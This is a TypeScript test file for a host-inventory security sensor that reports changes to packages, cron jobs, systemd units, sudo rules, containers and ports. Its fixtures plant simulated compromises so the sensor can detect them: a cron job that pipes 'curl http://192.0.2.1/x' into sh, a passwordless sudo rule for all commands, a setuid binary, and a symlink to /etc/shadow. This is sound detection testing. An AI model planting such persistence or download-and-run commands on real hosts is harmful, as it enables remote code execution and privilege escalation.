import assert from 'node:assert/strict'
import {
  chmodSync,
  globSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, test } from 'node:test'
import { type Event, type EventOf, parseEvent } from '@rampart/event'
import fc from 'fast-check'
import type { Sensor, SensorContext } from '../sensor.ts'
import { createHostInventorySensor } from './host-sensor.ts'
import { createLedger } from './ledger.ts'
import { createHostLooker } from './look.ts'
import { cronJobs, documentRoots, dpkgPackages, kernelModules, listeningSocket, sudoRules, unitFacts } from './parse.ts'
import { collectThings, inventoryChanges } from './things.ts'

const base = mkdtempSync(join(tmpdir(), 'inventory-'))
const sensors: Sensor[] = []
after(async () => {
  for (const sensor of sensors) await sensor.stop()
  rmSync(base, { recursive: true, force: true })
})
let number = 0

const files: Record<string, string> = {
  'var/lib/dpkg/status':
    'Package: nginx\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.2\n\nPackage: gone\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1\n',
  'etc/systemd/system/shop.service': '[Service]\nUser=shop\nExecStart=/opt/shop/server\n',
  'etc/crontab': 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n',
  'etc/nginx/sites-enabled/shop': 'server {\n  root /srv/shop/public;\n  location / { }\n}\n',
  'etc/sudoers': 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
  'usr/bin/ls': 'x',
}

function setUp(previous?: string) {
  const directory = previous ?? join(base, `${number++}`)
  const put = (path: string, text: string, mode = 0o644) => {
    const full = join(directory, 'root', path)
    mkdirSync(dirname(full), { recursive: true })
    writeFileSync(full, text)
    chmodSync(full, mode)
  }
  if (previous === undefined) for (const [path, text] of Object.entries(files)) put(path, text)
  mkdirSync(join(directory, 'proc/net'), { recursive: true })
  writeFileSync(join(directory, 'proc/modules'), 'ext4 1024 1 - Live 0x0\n')
  writeFileSync(join(directory, 'proc/net/tcp'), 'head\n')
  const events: EventOf<'inventory.changed'>[] = []
  const context = {
    asset: { id: 'web-1', name: 'web-1', kind: 'host' },
    bootId: 'boot',
    emit: (event: Event) => event.type === 'inventory.changed' && events.push(event),
    report() {},
    stateDirectory: join(directory, 'state'),
    policy: { watches: [], hashWaitMs: 0, hashLimitBytes: 0, ringBytes: 65_536 },
  } satisfies SensorContext
  const ledger = createLedger(join(directory, 'state/host-inventory.json'))
  const sensor = createHostInventorySensor(context, ledger, {
    root: join(directory, 'root'),
    proc: join(directory, 'proc'),
    settleMs: 20,
    leastMs: 20,
    intervalMs: 100,
  })
  sensors.push(sensor)
  /** Started, and its first look done. */
  const begin = async () => {
    const looked = new Promise<void>((resolve) => ledger.onLook(resolve))
    await sensor.start()
    assert.equal(sensor.health().state, 'running', 'before its first look ends, too')
    await looked
  }
  return { directory, put, events, sensor, ledger, begin }
}

async function until(done: () => boolean) {
  const end = Date.now() + 8000
  while (!done()) {
    assert.ok(Date.now() < end, 'it did not happen in time')
    await new Promise((resolve) => setTimeout(resolve, 10))
  }
}

test('the first look gives no events; what changes gives one each, also over a restart', async () => {
  const first = setUp()
  await first.begin()
  assert.equal(first.events.length, 0)
  const known = first.sensor.inventory()
  assert.deepEqual(Object.keys(known.package ?? {}), ['nginx:amd64'])
  assert.deepEqual(
    { ...known['web-root'] },
    {
      '/srv/shop/public': { server: 'nginx', configuration: '/etc/nginx/sites-enabled/shop' },
    },
  )
  assert.equal(known.unit?.['shop.service']?.command, '/opt/shop/server')
  first.put('etc/cron.d/new', '*/5 * * * * www-data curl http://192.0.2.1/x | sh\n')
  await until(() => first.events.length === 1)
  const [job] = first.events
  assert.deepEqual(
    [job?.kind, job?.operation, job?.after?.user, job?.after?.command, job?.duringPackageChange],
    ['job', 'added', 'www-data', 'curl http://192.0.2.1/x | sh', undefined],
  )
  await first.sensor.stop()

  first.put('usr/bin/ls', 'x', 0o4755)
  first.put('etc/systemd/system/shop.service', '[Service]\nExecStart=/tmp/x\n')
  first.put('etc/sudoers.d/eve', 'eve ALL=(ALL) NOPASSWD: ALL\n')
  const second = setUp(first.directory)
  await second.begin()
  assert.deepEqual(
    second.events.map((event) => [event.kind, event.operation, event.name]),
    [
      ['unit', 'changed', 'shop.service'],
      ['privileged-file', 'added', '/usr/bin/ls'],
      ['sudo-rule', 'added', '/etc/sudoers.d/eve: eve ALL=(ALL) NOPASSWD: ALL'],
    ],
  )
  assert.ok(second.events.every((event) => parseEvent(event).ok))
  await second.sensor.stop()
})

test('what comes with a package says so', async () => {
  const { events, put, sensor, begin } = setUp()
  await begin()
  put('lib/systemd/system/redis.service', '[Service]\nExecStart=/usr/bin/redis-server\n')
  put(
    'var/lib/dpkg/status',
    `${files['var/lib/dpkg/status']}\nPackage: redis\nStatus: install ok installed\nArchitecture: amd64\nVersion: 7\n`,
  )
  await until(() => events.some((event) => event.kind === 'package'))
  assert.ok(events.filter((event) => event.kind === 'package').every((event) => event.duringPackageChange))
  await sensor.stop()
})

test('a look waits for the package manager, so that no half-installed package is told', async () => {
  const { directory, events, put, begin, sensor } = setUp()
  put('var/lib/dpkg/lock-frontend', '')
  await begin()
  const { ino } = statSync(join(directory, 'root/var/lib/dpkg/lock-frontend'))
  const locks = (held: boolean) =>
    writeFileSync(join(directory, 'proc/locks'), held ? `1: POSIX  ADVISORY  WRITE 4242 fe:01:${ino} 0 EOF\n` : '')
  locks(true)
  put('etc/cron.d/php.dpkg-new', '* * * * * root true\n')
  // Longer than several looks.
  await new Promise((resolve) => setTimeout(resolve, 500))
  rmSync(join(directory, 'root/etc/cron.d/php.dpkg-new'))
  put('etc/cron.d/php', '* * * * * root true\n')
  locks(false)
  await until(() => events.length > 0)
  assert.deepEqual(
    events.map(({ operation, name, duringPackageChange }) => [operation, name, duringPackageChange]),
    [['added', '/etc/cron.d/php: * * * * * root true', true]],
  )
  await sensor.stop()
})

test('containers, images and web servers are found with what is known of each', async () => {
  const { directory, put } = setUp()
  const id = 'ab'.repeat(32)
  put(
    `var/lib/docker/containers/${id}/config.v2.json`,
    JSON.stringify({
      Name: '/web',
      Created: '2026-11-20T08:00:00Z',
      State: { Running: true },
      Config: { Image: 'nginx:1.27' },
    }),
  )
  put(
    `var/lib/docker/containers/${id}/hostconfig.json`,
    JSON.stringify({
      Privileged: true,
      NetworkMode: 'host',
      PortBindings: { '80/tcp': [{ HostIp: '', HostPort: '8080' }] },
    }),
  )
  put(
    'var/lib/docker/image/overlay2/repositories.json',
    JSON.stringify({ Repositories: { nginx: { 'nginx:1.27': 'sha256:11', 'nginx@sha256:22': 'sha256:11' } } }),
  )
  put(
    'run/containerd/io.containerd.runtime.v2.task/k8s.io/c1/config.json',
    JSON.stringify({
      annotations: { 'io.kubernetes.cri.container-name': 'api', 'io.kubernetes.cri.image-name': 'shop/api:3' },
    }),
  )
  put('etc/nginx/nginx.conf', 'http {}\n')
  const looked = await createHostLooker(join(directory, 'root'), join(directory, 'proc')).look()
  assert.deepEqual(
    { ...looked.container?.things },
    {
      [id]: {
        ...{ runtime: 'docker', name: 'web', image: 'nginx:1.27', running: true, privileged: true, network: 'host' },
        ports: '8080→80/tcp',
      },
      c1: { runtime: 'containerd', namespace: 'k8s.io', running: true, name: 'api', image: 'shop/api:3' },
    },
  )
  assert.equal(looked.container?.since[id], Date.UTC(2026, 10, 20, 8))
  assert.deepEqual({ ...looked.image?.things }, { 'nginx:1.27': { runtime: 'docker', id: 'sha256:11' } })
  assert.deepEqual(
    { ...looked['web-server']?.things },
    { nginx: { version: '1.2', roots: 1, configuration: '/etc/nginx/nginx.conf', running: false } },
  )
})

test('units are enabled, disabled, masked or an alias; those of users are theirs', async () => {
  const { directory, put } = setUp()
  const root = join(directory, 'root')
  const install = '[Service]\nExecStart=/bin/x\n[Install]\nWantedBy=multi-user.target\n'
  put('lib/systemd/system/on.service', install)
  put('lib/systemd/system/off.service', install)
  put('lib/systemd/system/needed.service', '[Service]\nExecStart=/bin/x\n')
  put('etc/systemd/system/multi-user.target.wants/.keep', '')
  symlinkSync('/lib/systemd/system/on.service', join(root, 'etc/systemd/system/multi-user.target.wants/on.service'))
  symlinkSync(join(root, 'lib/systemd/system/on.service'), join(root, 'etc/systemd/system/other.service'))
  symlinkSync('/dev/null', join(root, 'etc/systemd/system/hidden.service'))
  put('sys/fs/cgroup/system.slice/on.service/cgroup.procs', '1')
  put('etc/passwd', 'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nsys:x:3:3::/dev:/bin/sh\n')
  put('home/alice/.config/systemd/user/own.service', install)
  symlinkSync('/etc/shadow', join(root, 'home/alice/.config/systemd/user/secret.service'))
  const { unit } = await createHostLooker(root, join(directory, 'proc')).look()
  assert.deepEqual(
    Object.entries(unit?.things ?? {})
      .filter(([name]) => name !== 'shop.service')
      .map(([name, { starts, running, session }]) => [name, starts, running, session]),
    [
      ['hidden.service', 'masked', undefined, undefined],
      ['other.service', 'alias', false, undefined],
      ['needed.service', 'static', false, undefined],
      ['off.service', 'disabled', false, undefined],
      ['on.service', 'enabled', true, undefined],
      ['own.service (user alice)', 'disabled', undefined, 'alice'],
    ],
  )
})

test('nothing is read again that did not change, and everything that did', async () => {
  const { directory, put } = setUp()
  const root = join(directory, 'root')
  const looker = createHostLooker(root, join(directory, 'proc'))
  // Files that changed just now are read again to be sure.
  const old = new Date(Date.now() - 60_000)
  for (const path of globSync('**', { cwd: root })) utimesSync(join(root, path), old, old)
  await until(() => Date.now() - statSync(join(root, 'etc/crontab')).ctimeMs > 2_100)
  await looker.look()
  const { reads } = looker
  await looker.look()
  assert.equal(looker.reads, reads)
  put('etc/crontab', '1 1 * * * root /usr/local/bin/other\n')
  utimesSync(join(root, 'etc/crontab'), old, old)
  assert.deepEqual(Object.keys((await looker.look()).job?.things ?? {}), [
    '/etc/crontab: 1 1 * * * root /usr/local/bin/other',
  ])
  assert.equal(looker.reads, reads + 1, 'the same size or time does not hide a change')
})

test('a port that this very host has open is found with its program', async () => {
  const server = createServer().listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  const found = (await createHostLooker().look()).port?.things[`tcp 127.0.0.1:${port}`]
  server.close()
  const userId = process.getuid?.() ?? 0
  const holder = { program: process.execPath, userId, everywhere: false }
  assert.deepEqual(found, { protocol: 'tcp', address: '127.0.0.1', port, ...holder })
})

test('a kind that could not be read makes no difference, and differences are bounded', () => {
  const many = collectThings(Array.from({ length: 600 }, (_, at) => [`p${at}`, { version: '1' }] as const)).things
  assert.deepEqual(inventoryChanges({ package: many }, { port: {} }, 0, false), { drafts: [], left: 0 })
  const { drafts, left } = inventoryChanges({ package: {} }, { package: many }, 0, false)
  assert.deepEqual([drafts.length, left], [500, 100])
})

test('hostile files give valid events or none', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .array(
        fc.constantFrom(
          '* * * * * ',
          'root ',
          'ExecStart=',
          '\n',
          ' root /x;',
          'Package: ',
          'Status: a installed\n',
          '__proto__',
          ':',
          '0A ',
          '00000000:0016 ',
          'NOPASSWD',
          '\\\n',
        ),
      )
      .map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(text, (input) => {
      const rows = [
        ...dpkgPackages(input),
        ...cronJobs(input, '/etc/crontab', true),
        ...cronJobs(input, '/x', false, 'eve'),
        ...kernelModules(input),
        ...documentRoots(input, 'nginx', '/x'),
        ...documentRoots(input, 'apache', '/x'),
        ...documentRoots(input, 'caddy', '/x'),
        ...sudoRules(input, '/x'),
        ['u', unitFacts(input)] as const,
      ]
      listeningSocket(input, 'tcp')
      for (const draft of inventoryChanges({ job: {} }, { job: collectThings(rows).things }, 1, false).drafts) {
        const asset = { id: 'a', name: 'a', kind: 'host' }
        const parsed = parseEvent({ schema: 1, id: 'a/b/1', asset, sensor: 'inventory.host', ...draft })
        assert.deepEqual(parsed.ok ? undefined : parsed.issue, undefined)
      }
    }),
    { numRuns: Number(process.env.FUZZ_RUNS ?? 300) },
  )
})
